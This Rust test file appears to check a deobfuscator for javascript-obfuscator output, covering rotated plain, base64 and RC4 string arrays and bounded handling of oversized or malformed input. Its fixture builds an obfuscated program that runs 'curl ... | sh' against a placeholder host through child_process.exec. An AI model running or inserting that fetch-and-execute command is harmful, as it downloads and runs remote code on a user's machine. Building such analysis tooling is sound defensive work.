//! Tests of the javascript-obfuscator reader: plain, base64 and RC4 string arrays, rotated, resolved back
//! into the program; and hostile input (a 1 MB array, a huge rotation count, a check that never holds).

use super::*;

const ALPHABET: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=";

fn strings() -> Vec<String> {
    [
        "child_process",
        "exec",
        "curl -s https://x.example.invalid/a.sh | sh",
        "100abc",
        "50",
        "log",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

fn custom_base64(bytes: &[u8]) -> String {
    let alphabet = ALPHABET.as_bytes();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..=chunk.len() {
            out.push(alphabet[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
    }
    out
}

/// An obfuscated program in javascript-obfuscator's shape: the array stored rotated right by 2, a
/// self-check that only holds once it is rotated back, lookups with an offset of 0x1d0.
fn program(stored: &[String], decoder_extra: &str, key: Option<&str>) -> String {
    let quoted: Vec<String> = stored.iter().map(|s| format!("'{s}'")).collect();
    let arg = |n: u32| match key {
        Some(k) => format!("0x{n:x},'{k}'"),
        None => format!("0x{n:x}"),
    };
    format!(
        "function _0x1a2b(){{var _0x3c4d=[{}];_0x1a2b=function(){{return _0x3c4d;}};return _0x1a2b();}}\n\
         function _0x5e6f(_0x7a8b,_0x9c0d){{var _0x1f=_0x1a2b();return _0x5e6f=function(_0x4e5f,_0x6a7b){{_0x4e5f=_0x4e5f-0x1d0;{decoder_extra}var _0x8c9d=_0x1f[_0x4e5f];return _0x8c9d;}},_0x5e6f(_0x7a8b,_0x9c0d);}}\n\
         (function(_0x2d8f05,_0x4b81bb){{var _0x4d74cb=_0x5e6f,_0x32719f=_0x2d8f05();while(!![]){{try{{var _0x5d1b02=parseInt(_0x4d74cb({}))/0x1+-parseInt(_0x4d74cb({}))/0x2;if(_0x5d1b02===_0x4b81bb)break;else _0x32719f['push'](_0x32719f['shift']());}}catch(_0x1b8c1d){{_0x32719f['push'](_0x32719f['shift']());}}}}}}(_0x1a2b,0x4b));\n\
         const _0xcp=require(_0x5e6f({}));_0xcp[_0x5e6f({})](_0x5e6f({}));\n",
        quoted.join(","),
        arg(0x1d3),
        arg(0x1d4),
        arg(0x1d0),
        arg(0x1d1),
        arg(0x1d2)
    )
}

fn rotated_right(items: &[String], by: usize) -> Vec<String> {
    let len = items.len();
    (0..len)
        .map(|i| items[(i + len - by) % len].clone())
        .collect()
}

fn resolved(body: &str) -> Option<String> {
    let mut found = Vec::new();
    find(body, 0, &mut found);
    found.pop().map(|p| p.decoded)
}

const CALL: &str = "_0xcp.exec('curl -s https://x.example.invalid/a.sh | sh')";

#[test]
fn a_rotated_plain_array_resolves_to_the_program() {
    let body = program(&rotated_right(&strings(), 2), "", None);
    let text = resolved(&body).unwrap();
    assert!(text.contains("require('child_process')"), "{text}");
    assert!(text.contains(CALL), "{text}");
    // The array itself is gone, so the rescan does not resolve it again.
    assert!(
        text.contains("var _strings = [];") && !text.contains("'50','log'"),
        "{text}"
    );
}

#[test]
fn a_base64_array_resolves_with_the_decoders_alphabet() {
    let encoded: Vec<String> = strings()
        .iter()
        .map(|s| custom_base64(s.as_bytes()))
        .collect();
    let extra = format!("var _0xab='{ALPHABET}';");
    let body = program(&rotated_right(&encoded, 2), &extra, None);
    let text = resolved(&body).unwrap();
    assert!(text.contains(CALL), "{text}");
}

#[test]
fn an_rc4_array_resolves_with_the_key_of_each_lookup() {
    let key = "Xy9z";
    let encoded: Vec<String> = strings()
        .iter()
        .map(|s| {
            let cipher = rc4(s, key);
            custom_base64(cipher.as_bytes())
        })
        .collect();
    let extra = format!(
        "var _0xab='{ALPHABET}';for(_0xi=0x0;_0xi<0x100;_0xi++){{_0xj=(_0xj+_0xs[_0xi])%0x100;}}"
    );
    let body = program(&rotated_right(&encoded, 2), &extra, Some(key));
    let text = resolved(&body).unwrap();
    assert!(text.contains(CALL), "{text}");
}

#[test]
fn an_older_counted_rotation_is_undone() {
    let stored = rotated_right(&strings(), 3);
    let quoted: Vec<String> = stored.iter().map(|s| format!("'{s}'")).collect();
    // `_0x3(++count)` with `while(--n)` rotates `count` times; the count is far above the length.
    let body = format!(
        "var _0x4a2b=[{}];(function(_0x1,_0x2){{var _0x3=function(_0x4){{while(--_0x4){{_0x1['push'](_0x1['shift']());}}}};_0x3(++_0x2);}}(_0x4a2b,0x{:x}));var _0x5c=function(_0x1,_0x2){{_0x1=_0x1-0x0;var _0x3=_0x4a2b[_0x1];return _0x3;}};require(_0x5c('0x0'));_0xcp[_0x5c(0x1)](_0x5c(0x2));\n",
        quoted.join(","),
        6 * 1_000_000 + 3
    );
    let text = resolved(&body).unwrap();
    assert!(text.contains(CALL), "{text}");
}

#[test]
fn minified_code_with_0x_names_but_no_string_array_is_not_resolved() {
    let body =
        "var _0x12ab=function(a){return a*0x10;};var _0x9f=[1,2,3];console.log(_0x12ab(0x2));\n";
    assert!(resolved(body).is_none());
    let numbers = "var _0xabc=[0x1,0x2,0x3,0x4,0x5];\n";
    assert!(resolved(numbers).is_none());
}

#[test]
fn a_megabyte_array_with_a_check_that_never_holds_stays_bounded() {
    let stored: Vec<String> = (0..90_000).map(|i| format!("s{i:08}")).collect();
    let body = program(&stored, "", None);
    assert!(body.len() > 1_000_000);
    let started = std::time::Instant::now();
    let text = resolved(&body).unwrap();
    assert!(text.contains("require("), "{}", &text[..200]);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    // Past the item cap, the array is not read at all.
    let stored: Vec<String> = (0..MAX_ITEMS + 10).map(|i| format!("{i}")).collect();
    assert!(resolved(&program(&stored, "", None)).is_none());
}

#[test]
fn deep_or_broken_expressions_are_refused() {
    let deep = format!("{}1{}", "(".repeat(10_000), ")".repeat(10_000));
    assert!(evaluate_number(&deep).is_none());
    assert!(evaluate_number("0x1c8").is_some_and(|v| v == 456.0));
    assert!(evaluate_number("-0x1*0x9a+0x2").is_some_and(|v| v == -152.0));
    assert!(evaluate_number("0x1 +").is_none());
    assert!(parse_int("12abc") == 12.0 && parse_int("abc").is_nan());
}
